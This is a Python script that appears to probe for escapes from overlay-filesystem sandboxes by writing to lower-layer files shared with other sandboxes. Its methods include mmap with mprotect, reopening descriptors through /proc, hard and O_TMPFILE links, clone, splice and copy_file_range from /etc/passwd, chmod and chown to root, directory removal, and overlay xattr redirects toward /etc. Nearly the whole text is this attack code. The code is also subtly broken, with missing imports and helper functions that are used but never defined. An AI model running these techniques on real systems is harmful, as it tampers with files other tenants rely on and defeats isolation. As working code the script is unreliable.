# Writing through to files of the lower layers, which other sandboxes share: by every descriptor and link there is.
import fcntl, mmap

target = sys.argv[1]
own = sys.argv[2]
print("lower layer: as", os.getuid())


def write_all(fd):
    return os.pwrite(fd, b"EVIL", 0)


def reopened():
    """A descriptor from before the copy up still is the lower file: opened anew, for writing."""
    low = os.open(target, os.O_RDONLY)
    high = os.open(f"/proc/self/fd/{low}", os.O_RDWR)
    write_all(high)
    return "lower unchanged" if os.pread(low, 4, 0) != b"EVIL" else "one file"


def mapped(fd):
    os.lseek(fd, 0, 0)
    shared = mmap.mmap(fd, 4, mmap.MAP_SHARED, mmap.PROT_READ)
    address = libc.mprotect
    window = ctypes.c_void_p()
    libc.mmap.restype = ctypes.c_void_p
    window = libc.mmap(None, 4096, 1, 1, fd, 0)
    if libc.mprotect(ctypes.c_void_p(window), 4096, 3):
        raise OSError(ctypes.get_errno(), "mprotect")
    ctypes.memmove(window, b"EVIL", 4)
    return "written"


LOW = os.open(target, os.O_RDONLY)
PATH = os.open(target, os.O_PATH)
BEFORE = os.pread(LOW, 64, 0)
tried("mmap of the lower file", mapped, LOW)
tried("write to a read-only descriptor", write_all, LOW)
tried("truncate a read-only descriptor", os.ftruncate, LOW, 0)
tried("fallocate", lambda: libc.fallocate(LOW, 3, 0, 4) and (_ for _ in ()).throw(OSError(ctypes.get_errno(), "")))
tried("clone into it", lambda: fcntl.ioctl(LOW, 0x40049409, os.open("/etc/passwd", os.O_RDONLY)))
tried("copy_file_range into it", lambda: os.copy_file_range(os.open("/etc/passwd", os.O_RDONLY), LOW, 4))
tried("splice into it", lambda: os.splice((lambda p: (os.write(p[1], b"EVIL"), p[0])[1])(os.pipe()), LOW, 4))
tried("immutable flag", lambda: fcntl.ioctl(LOW, 0x40086602, struct.pack("<q", 0x10)) and None)
tried("xattr of a descriptor", lambda: os.setxattr(LOW, "user.overlay.opaque", b"y"))
tried("link of a descriptor", lambda: sys_call("linkat", PATH, b"\0", -100, (own + "/linked\0").encode(), 0x1000) and None)
tried("temporary file, linked over", lambda: (lambda fd: os.link(f"/proc/self/fd/{fd}", own + "/tmpfile", follow_symlinks=True))(os.open(own, os.O_TMPFILE | os.O_RDWR)))
tried("hard link, then write", lambda: (os.link(target, own + "/hard"), put(own + "/hard", b"EVIL"))[1])
tried("seen through the link", lambda: "one file" if content(target, 4) == b"EVIL" else "two files")
tried("reopened through /proc", reopened)
tried("by the O_PATH descriptor", lambda: write_all(os.open(f"/proc/self/fd/{PATH}", os.O_RDWR)))
tried("truncate", lambda: os.truncate(target, 2))
tried("chmod, chown, times", lambda: (os.chmod(target, 0o7777), os.chown(target, 0, 0), os.utime(target, (1, 1))) and None)
tried("rename over", lambda: os.rename(own + "/hard", target))
directory = os.path.dirname(target)
tried("rename the directory", lambda: os.rename(directory, own + "/moved"))
tried("remove the directory", lambda: __import__("shutil").rmtree(own + "/moved"))
tried("overlay marks", lambda: os.setxattr("/", "user.overlay.redirect", b"/../../../../etc"))
tried("trusted marks", lambda: os.setxattr("/", "trusted.overlay.opaque", b"y"))
tried("layers in sight", lambda: sum(("lowerdir" in l) or ("upperdir" in l) for l in open("/proc/self/mountinfo")) and "options" or "none")
print("what the old descriptor shows:", "changed" if os.pread(LOW, 64, 0) != BEFORE else "what it showed")
